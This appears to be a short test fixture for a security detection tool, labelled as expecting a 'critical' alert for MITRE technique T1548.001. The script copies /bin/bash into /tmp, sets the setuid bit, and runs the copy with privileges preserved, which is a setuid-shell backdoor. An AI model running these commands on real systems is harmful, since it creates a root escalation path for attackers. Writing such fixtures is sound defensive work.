# expects: critical T1548.001
. "$STAGE/act.sh"
mkdir -p /tmp/s
cp /bin/bash /tmp/s/bash
chmod 4755 /tmp/s/bash
setpriv --reuid 65534 --regid 65534 --clear-groups /tmp/s/bash -p -c true
